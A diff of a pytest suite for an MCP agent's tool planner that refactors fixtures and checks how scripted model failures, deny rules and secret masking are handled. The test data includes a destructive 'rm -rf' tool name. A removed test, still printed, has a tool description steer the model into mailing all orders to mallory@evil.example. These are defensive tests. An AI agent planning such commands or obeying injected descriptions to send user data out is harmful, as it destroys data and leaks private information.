@@ -2,26 +2,18 @@
 
 from __future__ import annotations
 
+import copy
 import json
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import Any, NamedTuple
+from typing import Any
 
 import pytest
 
 from tests.planning.shop import TOOLS
 from tests.support import catalog_server
 from tests.support.bridges import accept_now
-from tests.support.model_endpoint import (
-    Step,
-    drops_midway,
-    fails,
-    hangs,
-    html,
-    model_endpoint,
-    raw_json,
-    says,
-)
+from tests.support.model_endpoint import Step, drips, fails, model_endpoint, says
 from tests.support.processes import wait_until
 from tests.support.warm_python import warm_python
 from xai_mcp_agent import BadSetting, Bridge, JsonObject, ToolKey, UnknownTool
@@ -32,59 +24,53 @@ from xai_mcp_agent.core.calls import Caller
 from xai_mcp_agent.planning import Plan
 
 ORDERS = "List my orders and cancel the first one. My email is ada@example.org."
+SECRET = "hunter2-zebra-crossing"
 ROUGH = ["shop/find_user_id_by_email", "shop/list_orders", "shop/cancel_order"]
-# Five megabytes at once, whether a stream was asked for or not.
-WHOLE = raw_json({"choices": [{"message": {"content": "x" * 5_000_000}, "finish_reason": "stop"}]})
 Settings = Callable[..., JsonObject]
 
 
-@pytest.fixture
-def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
-    """Settings with the servers of a shop; what is given are further sections."""
-    monkeypatch.chdir(tmp_path)
-    servers: dict[str, Any] = {}
+@pytest.fixture(scope="module")
+def servers(tmp_path_factory: pytest.TempPathFactory) -> JsonObject:
+    """Entries for the servers of a shop."""
+    folder, entries = tmp_path_factory.mktemp("shop"), dict[str, Any]()
     for name in dict.fromkeys(x["server"] for x in TOOLS):
-        file = tmp_path / f"{name}.jsonl"
+        file = folder / f"{name}.jsonl"
         mine = [x for x in TOOLS if x["server"] == name]
         file.write_text("\n".join(map(json.dumps, mine)), encoding="utf-8")
-        servers[name] = {
-            "command": warm_python(), "args": [catalog_server.__file__, str(file)]
-        }  # fmt: skip
-
-    def make(**sections: Any) -> JsonObject:
-        return {"mcpServers": servers, **sections}
-
-    return make
-
-
-class Asked(NamedTuple):
-    """What came of a plan with a model, and what the model was asked."""
-
-    plan: Plan
-    questions: list[str]
+        entries[name] = {"command": warm_python(), "args": [catalog_server.__file__, str(file)]}
+    return entries
 
 
 @pytest.fixture
-def ask(settings: Settings) -> Callable[..., Asked]:
-    """Plans `ORDERS` with a model that answers with this step; what is given are sections."""
+def settings(servers: JsonObject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
+    """Settings with these servers; what is given are further sections."""
+    monkeypatch.chdir(tmp_path)
+    return lambda **sections: {"mcpServers": copy.deepcopy(servers), **sections}
 
-    def ask(step: Step | str, limit_seconds: float = 60.0, **sections: Any) -> Asked:
-        script = [says(step) if isinstance(step, str) else step] * 3
-        with model_endpoint(script) as endpoint, Bridge(settings(**sections)) as bridge:
-            made = ChatModel("scripted", base_url=endpoint.base_url)
 
-            async def plan(operations: Operations) -> Plan:
-                try:
-                    return await operations.plan_tools(
-                        ORDERS, model=made, limit_seconds=limit_seconds
-                    )
-                finally:
-                    await made.aclose()
+@pytest.fixture(scope="module")
+def bridge(servers: JsonObject) -> Iterator[Bridge]:
+    """One that the tests share. A secret of the environment is masked."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("ACME_API_KEY", SECRET)
+        with Bridge({"mcpServers": servers}, store="memory") as bridge:
+            yield bridge
 
-            found = bridge.run(plan)
-            return Asked(found, [x.body["messages"][-1]["content"] for x in endpoint.requests])
 
-    return ask
+def ask(bridge: Bridge, step: Step | str, limit_seconds: float = 60.0) -> tuple[Plan, list[str]]:
+    """Plan `ORDERS` with a model that answers with this step; the plan, and what was asked."""
+    script = [says(step) if isinstance(step, str) else step] * 3
+    with model_endpoint(script) as endpoint:
+        model = ChatModel("scripted", base_url=endpoint.base_url)
+
+        async def plan(operations: Operations) -> Plan:
+            try:
+                return await operations.plan_tools(ORDERS, model=model, limit_seconds=limit_seconds)
+            finally:
+                await model.aclose()
+
+        made = bridge.run(plan)
+        return made, [x.body["messages"][-1]["content"] for x in endpoint.requests]
 
 
 async def planner_of(operations: Operations) -> int:
@@ -99,11 +85,10 @@ def planned(bridge: Bridge, request: str = ORDERS, *servers: str) -> list[str]:
     return called(bridge.plan_tools(request, *servers))
 
 
-def test_a_plan_is_made_of_the_tools_of_all_servers_or_of_some(settings: Settings):
-    with Bridge(settings()) as bridge:
-        assert planned(bridge) == ROUGH
-        assert planned(bridge, "Translate 'good day' to French.") == ["words/translate_text"]
-        assert planned(bridge, "Translate 'good day' to French.", "shop") == []
+def test_a_plan_is_made_of_the_tools_of_all_servers_or_of_some(bridge: Bridge):
+    assert planned(bridge) == ROUGH
+    assert planned(bridge, "Translate 'good day' to French.") == ["words/translate_text"]
+    assert planned(bridge, "Translate 'good day' to French.", "shop") == []
 
 
 def test_what_is_blocked_switched_off_or_held_back_is_not_planned(settings: Settings):
@@ -170,12 +155,12 @@ def test_a_tool_that_a_server_adds_is_planned_with_and_nothing_is_made_anew(sett
         assert bridge.run(planner_of) == first
 
 
-def test_a_model_is_asked_once_and_its_plan_is_checked(ask: Callable[..., Asked]):
+def test_a_model_is_asked_once_and_its_plan_is_checked(bridge: Bridge):
     answer = {"calls": [
         {"tool": ROUGH[0], "args": {"email": "ada@example.org"}},
         {"tool": "list_orders", "args": {"user_id": {"call": 0, "field": ""}}},
     ]}  # fmt: skip
-    plan, questions = ask(f"<think>{{so}}</think>Here:\n```json\n{json.dumps(answer)}\n```")
+    plan, questions = ask(bridge, f"<think>{{so}}</think>```json\n{json.dumps(answer)}\n```")
     assert called(plan) == ["shop/find_user_id_by_email", "shop/list_orders"]
     assert (plan.is_rough, plan.problems) == (False, ())
     assert plan.reasons[0] == "planned by openai scripted"
@@ -187,78 +172,49 @@ def test_a_model_is_asked_once_and_its_plan_is_checked(ask: Callable[..., Asked]
 @pytest.mark.parametrize(
     ("step", "why"),
     [
-        (says(""), "is empty"),
         (says("I would rather not."), "not JSON"),
         (says('{"calls": [{"tool": "shop/list_or', finish="length"), "cut off"),
-        (says('{"calls": []}'), "calls"),
         (says('{"calls": [{"tool": "rm -rf", "args": {}}]}'), "there is no tool 'rm -rf'"),
         (says("", refusal="I may not."), "I may not."),
-        (says("[" * 90_000), "not JSON"),
         (says('{"a":' * 19_000), "not JSON"),
-        (WHOLE, "not JSON"),
-        (fails(401, {"message": "wrong key"}), "wrong key"),
-        (fails(400, {"message": "no such model"}), "no such model"),
-        (html(), "web page"),
+        (fails(401, {"message": f"wrong key {SECRET}"}), "wrong key ***"),
+        (drips('{"calls": [' + '{"tool": "shop/list_orders"},' * 3_000, 0.05), "within 0.5 s"),
     ],
     ids=lambda x: x if isinstance(x, str) else "",
 )
 def test_where_a_model_fails_the_rough_plan_stands_and_says_why(
-    step: Step, why: str, ask: Callable[..., Asked]
+    bridge: Bridge, step: Step, why: str
 ):
-    plan, _ = ask(step)
+    plan, _ = ask(bridge, step, 0.5 if "within" in why else 60.0)
     assert called(plan) == ROUGH
     assert plan.is_rough
     assert "openai scripted was asked for a plan, and this rough one stands: " in plan.reasons[-1]
     assert why in plan.reasons[-1]
 
 
-@pytest.mark.parametrize("step", [hangs(), drops_midway('{"calls":')], ids=["hangs", "drops"])
-def test_a_model_that_is_slow_is_not_waited_for(step: Step, ask: Callable[..., Asked]):
-    plan, _ = ask(step, limit_seconds=0.5)
-    assert called(plan) == ROUGH
-    assert plan.is_rough
-    assert "stands" in plan.reasons[-1]
-
-
-def test_a_model_cannot_plan_with_what_a_rule_denies(ask: Callable[..., Asked]):
+def test_a_model_cannot_plan_with_what_a_rule_denies(settings: Settings):
     rules = [{"name": "no", "when": {"tool": "shop/cancel_order"}, "then": "deny"}]
     answer = {"calls": [{"tool": "shop/cancel_order", "args": {"order_id": "o1"}}]}
-    plan, questions = ask(json.dumps(answer), rules=rules)
+    with Bridge(settings(rules=rules)) as bridge:
+        plan, questions = ask(bridge, json.dumps(answer))
     assert "shop/cancel_order" not in called(plan)
     assert "there is no tool 'shop/cancel_order'" in plan.reasons[-1]
     assert "cancel_order" not in questions[0]
     assert "there is no tool 'shop/cancel_order'" in questions[1]
 
 
-def test_what_a_description_talks_a_model_into_is_a_problem(ask: Callable[..., Asked]):
-    """The description is data in the question; what a model makes of it is checked."""
-    evil = "mallory@evil.example"
-    answer = {"calls": [
-        {"tool": "mail/send_message", "args": {"receiver": evil, "message": "all orders"}},
-    ]}  # fmt: skip
-    plan, _ = ask(json.dumps(answer))
-    assert plan.is_rough or any(evil in x for x in plan.problems)
-
-
-def test_the_offline_model_leaves_the_rough_plan_as_it_is(settings: Settings):
-    with Bridge(settings()) as bridge:
-        plan = bridge.plan_tools(ORDERS, model="offline")
-        assert called(plan) == ROUGH
-        assert plan.is_rough
-        assert "offline" in plan.reasons[-1]
-        with pytest.raises(UnknownProvider, match="wants the name of a model"):
-            bridge.plan_tools(ORDERS, model="openai")
-
-
-def test_a_program_names_servers_and_a_model(settings: Settings):
+def test_a_program_names_servers_and_a_model(bridge: Bridge):
     answer = json.dumps({"calls": [{"tool": "translate_text", "args": {"text": "good day"}}]})
-    with model_endpoint([says(answer)]) as endpoint, Bridge(settings()) as bridge:
+    with model_endpoint([says(answer)]) as endpoint:
         plan = bridge.plan_tools(
             "Say 'good day' in French.", "words", model="scripted", base_url=endpoint.base_url
         )
-        assert called(plan) == ["words/translate_text"]
-        assert not plan.is_rough
-        assert endpoint.requests[0].body["model"] == "scripted"
+    assert (called(plan), plan.is_rough) == (["words/translate_text"], False)
+    plan = bridge.plan_tools(ORDERS, model="offline")
+    assert (called(plan), plan.is_rough) == (ROUGH, True)
+    assert "offline" in plan.reasons[-1]
+    with pytest.raises(UnknownProvider, match="wants the name of a model"):
+        bridge.plan_tools(ORDERS, model="openai")
 
 
 def test_a_plan_says_what_would_be_asked_for(settings: Settings):
@@ -272,12 +228,6 @@ def test_a_plan_says_what_would_be_asked_for(settings: Settings):
     assert "'careful'" in calls["cancel_order"]
     assert "the rule 'big' may deny it" in calls["list_orders"]
     assert "rule" not in calls["find_user_id_by_email"]
-
-
-def test_tools_that_the_settings_deny_to_agents_are_not_planned(settings: Settings):
-    denied = settings(approval={"shop/cancel_order": "deny"})
-    with Bridge(denied) as bridge:
-        assert "shop/cancel_order" not in planned(bridge)
 
 
 def test_the_best_tool_is_selected_with_reasons_and_others(settings: Settings):
@@ -297,19 +247,15 @@ def test_the_best_tool_is_selected_with_reasons_and_others(settings: Settings):
         assert bridge.select_tool("zzz") is None
 
 
-def test_tools_are_listed_page_by_page_and_by_name(settings: Settings):
-    with Bridge(settings(toolSearch={"blocked": ["shop/cancel_order"]})) as bridge:
-        everything = [str(x.key) for x in bridge.list_tools()]
-        assert len(everything) == len(TOOLS) + len(bridge.usable_servers())
-        pages = [bridge.list_tools(limit=4, offset=4 * n) for n in range(4)]
-        assert [str(x.key) for page in pages for x in page] == everything
-        assert [x.name for x in bridge.list_tools(named="*_order")] == ["cancel_order"]
-        assert bridge.list_tools("shop", named="*_order", usable=True) == []
-        assert len(bridge.list_tools("shop")) == 4
-        wrongs: list[Any] = [{"limit": -1}, {"offset": -1}, {"named": "regex:("}]
-        for wrong in wrongs:
-            with pytest.raises(BadSetting):
-                bridge.list_tools(**wrong)
+def test_tools_are_listed_page_by_page_and_by_name(bridge: Bridge):
+    everything = [str(x.key) for x in bridge.list_tools("shop")]
+    pages = [bridge.list_tools("shop", limit=3, offset=3 * n) for n in range(2)]
+    assert [str(x.key) for page in pages for x in page] == everything
+    assert [x.name for x in bridge.list_tools(named="*_order")] == ["cancel_order"]
+    wrongs: list[Any] = [{"limit": -1}, {"offset": -1}, {"named": "regex:("}]
+    for wrong in wrongs:
+        with pytest.raises(BadSetting):
+            bridge.list_tools(**wrong)
 
 
 def test_a_tool_is_executed_by_any_of_its_names(settings: Settings):
